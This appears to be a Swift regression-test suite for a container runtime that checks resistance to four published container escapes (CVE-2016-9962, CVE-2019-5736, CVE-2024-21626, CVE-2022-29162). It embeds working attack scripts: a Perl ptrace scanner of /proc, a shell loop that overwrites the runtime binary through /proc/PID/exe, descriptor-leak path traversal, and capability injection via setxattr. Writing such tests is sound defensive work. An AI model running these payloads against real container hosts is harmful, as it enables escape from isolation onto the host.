import Foundation
import Testing

/// Published escapes by the runtime's own processes and descriptors.
@Suite("Escapes by processes")
struct EscapeProcessTests {
  // CVE-2016-9962: a process that joins has the host's files open while those inside can already trace it, or look at its
  // descriptors, root and working directory. A build that enters the pid namespace with descriptors of the host's, and can be
  // looked at there, fails this.
  @Test("Nobody inside gets a file of the host's from a process that joins, not even by tracing it")
  func joiner() throws {
    try withSandbox { box in
      let outside = try Outside(of: box)
      for directory in ["lib", "lib64"] { try makeLink("\(box.rootfs)/\(directory)", to: "usr/\(directory)") }
      box.config.mount("/usr", source: "/usr", ["rbind", "ro"])
      let capabilities = box.config["process.capabilities.effective"] as? [String] ?? []
      for set in ["bounding", "effective", "permitted"] {
        box.config["process.capabilities.\(set)"] = capabilities + ["CAP_SYS_PTRACE"]
      }
      // PTRACE_SEIZE, which stops nothing. Who is traced is to be waited for.
      let attack = """
        $| = 1;
        print "ready\\n";
        my (%known, $seen);
        $known{$_} = 1 for 1, $$;
        while (1) {
          1 while waitpid(-1, 1) > 0;
          opendir my $processes, '/proc' or die;
          for my $p (grep { /^[0-9]+$/ && !$known{$_} } readdir $processes) {
            syscall(\(CallNumber.ptrace), 0x4206, $p + 0, 0, 0);
            opendir my $files, "/proc/$p/fd";
            my @files = map { "fd/$_" } grep { !/^\\./ } readdir $files;
            for my $file (@files, 'root', 'cwd') {
              my $up = "/proc/$p/$file" . '/..' x 12;
              for my $top ("/proc/$p/$file", $up) {
                print "escaped by $file\\n" if -e "$top\(outside.path)/file";
              }
            }
            print "seen\\n" unless $seen++;
            $known{$p} = 1 unless -e "/proc/$p" && (readlink("/proc/$p/exe") || '') !~ /busybox/;
          }
        }
        """
      box.config["process.args"] = ["/usr/bin/perl", "-e", attack]
      try box.detach()
      try box.waitForOutput("ready")
      for options in [[], ["--tty"], ["--cwd", "/tmp"], ["--user", "1000"]] {
        for _ in 0..<8 { _ = try box.exec(options, "/bin/sleep", "0.01") }
      }
      try box.waitForOutput("seen")
      try box.delete()
      #expect(!box.output.contains("escaped"), "\(box.output)")
      outside.expectUntouched()
    }
  }

  // CVE-2019-5736: a program that is, or whose interpreter is, /proc/self/exe has the kernel open the runtime's program, which
  // is written to once nobody executes it. A build that executes the program without an image in between fails both cases.
  @Test("The runtime's own program cannot be written from inside", arguments: [true, false])
  func ownProgram(isShared: Bool) throws {
    try withSandbox { box in
      // A copy: should the attack work, it hits nothing of value.
      let copy = box.scratch.path + "/runtime"
      try Executable.copy(Swiftjail.program, to: copy)
      chmod(copy, 0o755)
      let before = try Data(contentsOf: URL(fileURLWithPath: copy))

      try write("#!/proc/self/exe\n", to: box.rootfs + "/bin/evil", mode: 0o755)
      // Holds on to any program that is not the root's own, and writes to it once it has ended.
      let attack = """
        echo ready
        while :; do
          for p in /proc/[0-9]*; do
            t=$(readlink $p/exe) || continue
            case "$t" in /bin/busybox) continue;; esac
            ( exec 9< $p/exe || exit
              n=0; while [ $n -lt 50 ]; do n=$((n+1)); echo pwned > /proc/self/fd/9 && break; sleep 0.01; done
            ) 2> /dev/null
          done
        done
        """
      func launch(_ arguments: [String]) throws -> Running {
        var program = box.program(arguments)
        program.path = copy
        return try program.start()
      }
      let programs = ["/bin/evil", "/proc/self/exe", "/bin/evil", "/proc/self/exe", "/bin/evil"]
      box.config.shell(attack)
      try box.writeConfig()
      let started = try launch(["run", "--detach", "--bundle", box.bundle, box.id]).wait()
      #expect(started.status == 0, "\(started)")
      defer { _ = try? box.call("delete", "--force", box.id) }
      if isShared {
        // A second container, of a malicious image, in the pid namespace of the first.
        let pid = try box.pid()
        box.config.enter("pid", path: "/proc/\(pid)/ns/pid")
      }
      for (number, command) in programs.enumerated() {
        let second = box.id + "-\(number)"
        if isShared {
          box.config["process.args"] = [command]
          try box.writeConfig()
        }
        defer { if isShared { _ = try? box.call("delete", "--force", second) } }
        let running = try launch(
          isShared ? ["run", "--bundle", box.bundle, second] : ["exec", box.id, command])
        // A program that is its own interpreter may go round in circles: its own affair.
        _ = poll(for: 1) { running.hasEnded }
        running.forget()
      }
      try box.succeed("delete", "--force", box.id)
      try #expect(Data(contentsOf: URL(fileURLWithPath: copy)) == before)
    }
  }

  /// Ways to name a descriptor of the runtime's from inside.
  enum Descriptor: String, CaseIterable, Sendable {
    case own = "/proc/self/fd/"
    case thread = "/proc/thread-self/fd/"
    case first = "/proc/1/fd/"
    case linked = "/etc/descriptors/"
  }

  // CVE-2024-21626: a directory of the host that the runtime has open is the working directory, or leads to the program.
  // A build that leaves three open, and does not look where the working directory is, fails this.
  @Test(
    "No descriptor of the runtime's leads out, by a working directory or a program",
    arguments: Descriptor.allCases)
  func leakedDescriptor(way: Descriptor) throws {
    try withSandbox { box in
      let outside = try Outside(of: box)
      try makeLink(box.rootfs + "/etc/descriptors", to: "/proc/self/fd")
      let up = "../../../../../../../../../.."
      let script = "for i in . .. ../.. \(up); do cat $i\(outside.path)/file; done; true"
      let plain = box.config
      box.config["process.args"] = ["sleep", "1000"]
      try box.detach()
      let second = box.id + "-2"
      // Each is also the caller's own leak.
      let root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC)
      defer { close(root) }
      for number in 3...20 {
        for path in ["\(way.rawValue)\(number)", "\(way.rawValue)\(number)/\(up)"] {
          box.config = plain
          box.config["process.cwd"] = path
          box.config.shell(script)
          var run = try box.prepare("run", id: second)
          run.extra = [root, root, root]
          outside.expectUntouched(by: try run.call(), "run in \(path)")
          var exec = box.program(["exec", "--cwd", path, box.id, "sh", "-c", script])
          exec.extra = [root, root, root]
          outside.expectUntouched(by: try exec.call(), "exec in \(path)")
        }
        let program = "\(way.rawValue)\(number)/\(up)\(outside.path)/program"
        box.config = plain
        box.config["process.args"] = [program]
        outside.expectUntouched(by: try box.run(id: second), "run \(program)")
        outside.expectUntouched(by: try box.exec([], program), "exec \(program)")
      }
    }
  }

  // CVE-2022-29162: capabilities that can be inherited go to the programs of users who are not root. A build whose
  // `exec --cap` adds to the inheritable set fails this.
  @Test("No program of another user's inherits a capability that nobody gave it")
  func inheritedCapability() throws {
    try withSandbox { box in
      let bit = 12
      let file = box.rootfs + "/gain/busybox"
      try makeDirectory(box.rootfs + "/gain")
      try Executable.copy("/bin/busybox", to: file)
      // A vfs_cap_data of version 2, capabilities(7): all of it is inheritable, and nothing else.
      let set = try Program(
        "perl",
        [
          "-e",
          """
          my ($file, $name, $value) = ('\(file)', 'security.capability', pack 'V5', 0x02000001, 0, 1 << \(bit), 0, 0);
          exit(syscall(\(CallNumber.setxattr), $file, $name, $value, 20, 0) != 0);
          """,
        ]
      ).call()
      #expect(set.status == 0)
      let command = ["/gain/busybox", "grep", "Cap[IPE]", "/proc/self/status"]
      func gained(_ outcome: Outcome) -> Bool {
        let sets = outcome.lines.compactMap { $0.words.last.flatMap { UInt64($0, radix: 16) } }
        return outcome.status != 0 || sets.count != 3 || sets.contains { $0 & (1 << bit) != 0 }
      }
      box.config["process.noNewPrivileges"] = false
      box.config["process.args"] = command
      box.config["process.user"] = ["uid": 1000, "gid": 1000]
      try #expect(!gained(box.run()))
      // So it would be with one: the attack works on who is given it.
      box.config["process.capabilities.inheritable"] = ["CAP_NET_ADMIN"]
      try #expect(gained(box.run()))

      // What `spec` writes.
      let spec = try JSONSerialization.jsonObject(with: Swiftjail.spec ?? Data()) as? [String: Any]
      box.config["process.capabilities"] = Config(object: spec ?? [:])["process.capabilities"]
      box.config["process.args"] = ["sleep", "1000"]
      box.config["process.user"] = ["uid": 0, "gid": 0]
      try box.detach()
      for options in [[], ["--cap", "CAP_NET_ADMIN"], ["--cap", "CAP_NET_ADMIN", "--cap", "CAP_CHOWN"]] {
        let exec = box.program(["exec", "--user", "1000"] + options + [box.id] + command)
        let outcome = try exec.call()
        #expect(!gained(outcome), "\(outcome)")
      }
      guard Kernel.hasPartitions else { return }
      let partition = box.program(
        ["run", "--rm", "--rootfs", box.rootfs, "--user", "1000", "--cap-add", "NET_ADMIN"] + [
          box.id + "-2", "--",
        ] + command)
      let outcome = try partition.call()
      #expect(!gained(outcome), "\(outcome)")
    }
  }
}
